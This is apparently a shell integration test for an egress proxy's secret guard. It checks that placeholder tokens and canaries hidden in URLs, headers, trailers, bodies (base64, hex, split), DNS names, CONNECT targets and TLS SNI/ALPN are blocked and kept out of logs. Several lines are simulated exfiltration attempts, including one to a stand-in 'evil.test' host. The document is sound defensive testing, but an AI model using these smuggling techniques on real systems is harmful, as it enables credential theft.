#!/bin/bash
# The secret guard: the real value of a secret from the replacements file, or a canary, in a
# request's URL, a header's name or value, its body (raw, URL-encoded, base64, hex; split across
# pieces) or its trailers (HTTP/1.1 chunked, HTTP/2 trailing HEADERS, after the head went
# upstream) is refused 403 before any of it reaches the upstream, whatever the host; so is one
# in an explicit-proxy CONNECT target or a passthrough tunnel's ClientHello, before anything is
# resolved. The answer and the log name the entry, never the value. Upstream: a recorder of
# every byte it receives (plain on :80, TLS on :443).
. "$(dirname "$0")/lib.sh"
t_enter_netns "$@"
HERE=$(cd "$(dirname "$0")" && pwd)

REAL="ghp_REALVALUE0123456789abcdefREALVALUE"
SURR="ghp_SurrogateSurrogateSurrogate000001"
CANARY="CANARY-7f3a9c-do-not-send"
cat > "$T_DIR/allow.yaml" <<'YAML'
domains: ["rec.test"]
url_prefixes:
  - host: "*.pt.test"
    tls: passthrough
YAML
cat > "$T_DIR/repl.json" <<JSON
{
  "$SURR": {"value": "$REAL", "scopes": ["rec.test"], "headers": ["Authorization"]},
  "short-surrogate-01": {"value": "short1", "scopes": ["rec.test"], "headers": ["X-Short"]},
  "canaries": [{"name": "ssh-marker", "value": "$CANARY"}]
}
JSON
ip addr add 127.0.0.3/8 dev lo 2>/dev/null || true
mkdir -p "$T_DIR/rec"
"$PY" "$HERE/leak_peers.py" recorder 127.0.0.3 80 "$T_DIR/rec" > /dev/null 2>&1 &
T_PIDS+=($!)
t_upstream_ca
t_upstream_cert "DNS:rec.test" "$T_DIR/rec-tls"
"$PY" "$HERE/leak_peers.py" recorder 127.0.0.3 443 "$T_DIR/rec" "$T_DIR/rec-tls.pem" \
    "$T_DIR/rec-tls.key" > /dev/null 2>&1 &
T_PIDS+=($!)
t_wait_port 127.0.0.3 80 || exit 1
t_wait_port 127.0.0.3 443 || exit 1
t_start_resolver --address=/rec.test/127.0.0.3 --address=/pt.test/127.0.0.3
t_start_airlock "$T_DIR/allow.yaml" --replacements "$T_DIR/repl.json" \
    --allow-upstream-cidr 127.0.0.3/32 --upstream-ca "$T_DIR/upca.pem" \
    --listen-proxy 127.0.0.1:3128 || exit 1
CA="$T_DIR/confdir/mitmproxy-ca-cert.pem"

# ---- a DNS query name holding a value: answered, logged with the name withheld ----
out=$(dig +short +time=2 +tries=1 @127.0.0.1 "$CANARY.rec.test" A)
t_eq "a DNS query naming the canary is answered like any other" 127.0.0.1 "$out"
t_logged "... its log line withholds the name and names the canary" \
    '^DNS A \[name withheld: it holds canary ssh-marker\] -> 127\.0\.0\.1$'
dig +short +time=2 +tries=1 @127.0.0.1 "$REAL.rec.test" A > /dev/null
t_logged "... the same for a real secret's value (entry named, not the value)" \
    '^DNS A \[name withheld: it holds secret entry\[0\]\.value\] -> 127\.0\.0\.1$'
t_check "no DNS line of the log holds the canary or the real value" \
    bash -c "! grep '^DNS ' '$T_DIR/net.log' | grep -qiF -e '$CANARY' -e '$REAL'"

t_contains "a value under 8 bytes is named on stderr, not scanned for" \
    "$(cat "$T_DIR/airlock.err")" "shorter than 8 bytes"
grep -qF short1 "$T_DIR/airlock.err"
t_check "... without its value" test $? -ne 0

received() { cat "$T_DIR"/rec/conn-*.bin 2>/dev/null; }
nrec() { ls "$T_DIR"/rec | wc -l; }
b64() { printf '%s' "$1" | base64 -w0; }
hex() { printf '%s' "$1" | od -An -tx1 | tr -d ' \n'; }

# control: a request without a secret goes through, body and all (1 MiB, held-back tail included)
head -c 1048576 /dev/urandom | base64 -w0 | head -c 1048576 > "$T_DIR/big.txt"
out=$(curl -sS -m 20 --data-binary @"$T_DIR/big.txt" http://rec.test/upload 2>&1)
t_eq "control: a 1 MiB body without a secret arrives whole" "ok 1048576" "$out"

# the body is scanned by sampling in large pieces: a value deep inside 1 MiB is still found
{ head -c 700001 "$T_DIR/big.txt"; printf '%s' "$(b64 "xx$REAL")"; tail -c 300000 "$T_DIR/big.txt"; } \
    > "$T_DIR/big-leak.txt"
out=$(curl -s -m 20 -w ' %{http_code}' --data-binary @"$T_DIR/big-leak.txt" http://rec.test/upload)
t_contains "the value base64 at 700 KB of a 1 MB body: 403" "$out" " 403"
t_contains "... where body, encoding base64" "$out" '"encoding": "base64", "where": "body"'

n0=$(nrec)
out=$(curl -s -m 5 -w ' %{http_code}' "http://rec.test/q?token=$REAL")
t_contains "the value raw in the query: 403" "$out" " 403"
t_contains "... blocked_secret_leak, where url" "$out" '"where": "url"'
t_wait_log '^BLOCKED GET http://rec\.test/\.\.\. -> 403 (leak: secret entry\[0\]\.value, raw, in url)$'
t_check "... logged with the host only, naming the entry" test $? -eq 0

out=$(curl -s -m 5 -w ' %{http_code}' -H "X-Debug: $(b64 "$REAL")" http://rec.test/h)
t_contains "the value base64 in a header: 403" "$out" " 403"
t_contains "... names the header" "$out" '"header": "X-Debug"'
t_contains "... and the encoding" "$out" '"encoding": "base64"'

out=$(curl -s -m 5 -w ' %{http_code}' "http://rec.test/u?t=$(printf '%s' "$REAL" | sed 's/_/%5F/')")
t_contains "the value URL-encoded in the query: 403" "$out" " 403"

h=$(hex "$REAL")
out=$(timeout 20 "$PY" "$HERE/leak_peers.py" post 127.0.0.1 80 rec.test /body \
    "prefix-$(head -c 3000 /dev/zero | tr '\0' a)-${h:0:30}" "${h:30}-suffix")
t_contains "the value hex in a body, split across two pieces 0.3 s apart: 403" "$out" "403 "
t_contains "... where body" "$out" '"where": "body"'
t_wait_log "(leak: secret entry\\[0\\]\\.value, hex, in body; the upstream request was aborted)$"
t_check "... the upstream request was aborted, and the log says so" test $? -eq 0
received | grep -qF "$h"
t_check "... the upstream never received the whole value" test $? -ne 0
received | grep -qF "${h:0:30}"
t_check "... nor its first half (held back until the second piece)" test $? -ne 0

out=$(curl -s -m 5 -w ' %{http_code}' -H 'Transfer-Encoding: chunked' --data-binary "notes: $CANARY" http://rec.test/c)
t_contains "a canary in a chunked body: 403" "$out" " 403"
t_wait_log '^BLOCKED POST http://rec\.test/c -> 403 (leak: canary ssh-marker, raw, in body[;)]'
t_check "... the log names the canary" test $? -eq 0

# ---- header names, Host, trailers (HTTP/1.1) ----
out=$(curl -s -m 5 -w ' %{http_code}' -H "X-$REAL: 1" http://rec.test/hn)
t_contains "the value raw as a header NAME: 403" "$out" " 403"
t_contains "... where header name, the name not shown" "$out" '"where": "header name", "method"'
t_logged "... logged 'in a header name'" \
    '^BLOCKED GET http://rec\.test/hn -> 403 (leak: secret entry\[0\]\.value, raw, in a header name)$'
out=$(curl -s -m 5 -w ' %{http_code}' -H "Host: $CANARY.rec.test" http://rec.test/hv)
t_contains "a canary in the Host header: 403" "$out" '"where": "header", "header": "Host"'
t_logged "... logged without the URL (its host holds the canary)" \
    "^BLOCKED GET - -> 403 (leak: canary ssh-marker, raw, in header 'Host')\$"

tr_post() { timeout 20 "$PY" "$HERE/leak_peers.py" chunked 127.0.0.1 80 rec.test "$@"; }
out=$(tr_post /tr "some body" "X-Sum: $(b64 "$REAL")")
t_contains "HTTP/1.1: the value base64 in a chunked TRAILER, 0.3 s after the head: 403" "$out" "403 "
t_contains "... where trailer, named" "$out" '"where": "trailer", "trailer": "X-Sum"'
t_logged "... logged 'in trailer', the upstream request aborted" \
    "^BLOCKED POST http://rec\.test/tr -> 403 (leak: secret entry\[0\]\.value, base64, in trailer 'X-Sum'; the upstream request was aborted)\$"
out=$(tr_post /trn "some body" "X-$CANARY: 1")
t_contains "HTTP/1.1: a canary as a trailer NAME: 403" "$out" '"where": "trailer name", "method"'
t_logged "... logged 'in a trailer name'" \
    '^BLOCKED POST http://rec\.test/trn -> 403 (leak: canary ssh-marker, raw, in a trailer name; the upstream request was aborted)$'
received | grep -qF "X-Sum"
t_check "... the upstream got neither trailer field (aborted before)" test $? -ne 0
out=$(tr_post /trok "some body" "X-Sum: clean")
t_contains "control: a clean trailer goes through" "$out" "200 ok "
received | grep -qF "X-Sum: clean"
t_check "... and reaches the upstream" test $? -eq 0

# ---- HTTP/2: header names, :authority, trailing HEADERS ----
h2req() { timeout 20 "$PY" "$HERE/leak_peers.py" h2 127.0.0.1 443 rec.test "$CA" "$@"; }
out=$(h2req head rec.test /h2n "x-$(hex "$REAL")" 1)
t_contains "HTTP/2: the value hex as a header NAME: 403" "$out" '"where": "header name"'
t_logged "... logged 'in a header name'" \
    '^BLOCKED GET https://rec\.test/h2n -> 403 (leak: secret entry\[0\]\.value, hex, in a header name)$'
out=$(h2req head "$CANARY.rec.test" /h2a x-ok 1)
t_contains "HTTP/2: a canary in :authority (Host): 403" "$out" '"where": "header", "header": "host"'
t_logged "... logged without the URL" "^BLOCKED GET - -> 403 (leak: canary ssh-marker, raw, in header 'host')\$"
out=$(h2req trailer rec.test /h2t x-sum "$REAL")
t_contains "HTTP/2: the value in a trailing HEADERS after DATA: 403" "$out" '"where": "trailer", "trailer": "x-sum"'
t_logged "... logged, the upstream request aborted" \
    "^BLOCKED POST https://rec\.test/h2t -> 403 (leak: secret entry\[0\]\.value, raw, in trailer 'x-sum'; the upstream request was aborted)\$"
out=$(h2req trailer rec.test /h2tn "x-$(hex "$CANARY")" 1)
t_contains "HTTP/2: a canary hex as a trailer NAME: 403" "$out" '"where": "trailer name"'
out=$(h2req cl0 rec.test /slow/h2c x-sum "$REAL")
t_contains "HTTP/2: content-length 0, then the value in trailers: 403" "$out" '"where": "trailer"'
out=$(h2req trailer rec.test /h2ok x-sum clean)
t_contains "control: HTTP/2 with a clean trailer goes through" "$out" "200 ok "
received | grep -qF "x-sum: clean"
t_check "... the trailer reached the upstream" test $? -eq 0

# ---- explicit proxy: the CONNECT target, the passthrough ClientHello ----
out=$(printf 'CONNECT %s.pt.test:443 HTTP/1.1\r\nHost: x\r\n\r\n' "$CANARY" |
    timeout 10 "$PY" "$HERE/raw.py" 127.0.0.1 3128 2>&1)
t_contains "a canary in a CONNECT target (a passthrough entry): 403" "$out" '"error": "blocked_secret_leak"'
t_contains "... where target" "$out" '"where": "target", "method": "CONNECT"'
t_logged "... logged without the target" \
    '^BLOCKED CONNECT - -> 403 (leak: canary ssh-marker, raw, in the CONNECT target)$'
low=$(printf '%s' "$CANARY" | tr 'A-Z' 'a-z')
timeout 10 openssl s_client -proxy 127.0.0.1:3128 -connect "$low.pt.test:443" \
    -servername "$CANARY.pt.test" < /dev/null > /dev/null 2>&1
t_logged "a passthrough ClientHello whose SNI holds the canary (the CONNECT target in lower case): closed" \
    "^BLOCKED CONNECT $low\.pt\.test:443 -> 403 (leak: canary ssh-marker, raw, in the TLS ClientHello)\$"
timeout 10 openssl s_client -proxy 127.0.0.1:3128 -connect a.pt.test:443 -servername a.pt.test \
    -alpn "$(b64 "$REAL")" < /dev/null > /dev/null 2>&1
t_logged "a passthrough ClientHello carrying the value base64 in its ALPN: closed" \
    '^BLOCKED CONNECT a\.pt\.test:443 -> 403 (leak: secret entry\[0\]\.value, base64, in the TLS ClientHello)$'
timeout 10 openssl s_client -proxy 127.0.0.1:3128 -connect b.pt.test:443 \
    -servername "$CANARY.other.test" < /dev/null > /dev/null 2>&1
t_logged "a passthrough ClientHello naming another host, the canary in its SNI: refused as a leak" \
    '^BLOCKED CONNECT b\.pt\.test:443 -> 403 (leak: canary ssh-marker, raw, in the TLS ClientHello)$'
grep -qiF "$low" "$T_DIR/dnsmasq.log"
t_check "... the canary's host was never looked up" test $? -ne 0

out=$(curl -s -m 5 -w ' %{http_code}' "http://evil.test/x?k=$REAL")
t_contains "a host the allowlist does not name: refused for the leak first" "$out" '"error": "blocked_secret_leak"'

for v in "$REAL" "$CANARY" "$h" "$(b64 "$REAL")"; do
    if grep -qF -- "$v" "$T_DIR/net.log" "$T_DIR/airlock.err"; then t_fail "a value reached the log or stderr"; fi
done
t_ok "no value (raw, hex, base64) in the network log or on stderr"
received | grep -qF "$REAL"
t_check "the upstream never received the raw value" test $? -ne 0
received | grep -qF "$CANARY"
t_check "... nor the canary" test $? -ne 0

# SIGHUP: a canary added by a reload is guarded at once
sed -i "s|\"canaries\": \[|\"canaries\": [{\"name\": \"new-one\", \"value\": \"fresh-canary-42-xyz\"}, |" "$T_DIR/repl.json"
t_reload
out=$(curl -s -m 5 -w ' %{http_code}' "http://rec.test/r?v=fresh-canary-42-xyz")
t_contains "a canary added by SIGHUP is refused" "$out" '"name": "new-one"'
kill -0 "$AIRLOCK_PID" 2>/dev/null
t_check "airlock alive" test $? -eq 0
t_stop_airlock
t_eq "SIGTERM: exit 0" "0" "$?"
t_done
